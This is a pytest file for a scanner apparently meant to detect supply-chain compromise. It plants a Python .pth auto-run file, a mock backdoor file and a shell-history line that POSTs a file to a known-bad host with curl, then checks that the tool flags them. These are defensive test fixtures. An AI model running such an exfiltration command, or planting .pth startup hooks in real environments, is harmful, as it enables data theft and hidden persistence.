"""`egressguard scan`: .pth payloads, incident files and known-bad hosts in shell history."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from egressguard.cli import main

PAYLOAD = "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', 'pass'])\n"


def test_scan_finds_what_a_compromise_leaves(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    home = tmp_path / "home"
    site = home / ".local" / "lib" / "python3.11" / "site-packages"
    site.mkdir(parents=True)
    (site / "litellm_init.pth").write_text(PAYLOAD)
    (home / ".config" / "sysmon").mkdir(parents=True)
    (home / ".config" / "sysmon" / "sysmon.py").write_text("# backdoor\n")
    (home / ".bash_history").write_text("curl -X POST https://models.litellm.cloud/ -d @x\n")
    cwd = os.getcwd()
    os.chdir(tmp_path)
    try:
        status = main(["scan", "--json", "--home", str(home)])
    finally:
        os.chdir(cwd)
    found = {(f["kind"], f["host"]) for f in json.loads(capsys.readouterr().out)}
    assert status == 1
    assert ("pth-exec", None) in found
    assert ("known-bad", "models.litellm.cloud") in found
    assert sum(1 for kind, _ in found if kind == "known-bad") == 2  # sysmon.py and history


def test_scan_of_a_clean_home_finds_nothing_there(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bash_history").write_text("pip install requests\n")
    main(["scan", "--json", "--home", str(home)])
    findings = json.loads(capsys.readouterr().out)
    assert [f for f in findings if str(home) in json.dumps(f)] == []


def test_scan_rejects_a_missing_home(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["scan", "--home", "/nonexistent/home"]) == 2
    assert "not a directory" in capsys.readouterr().err
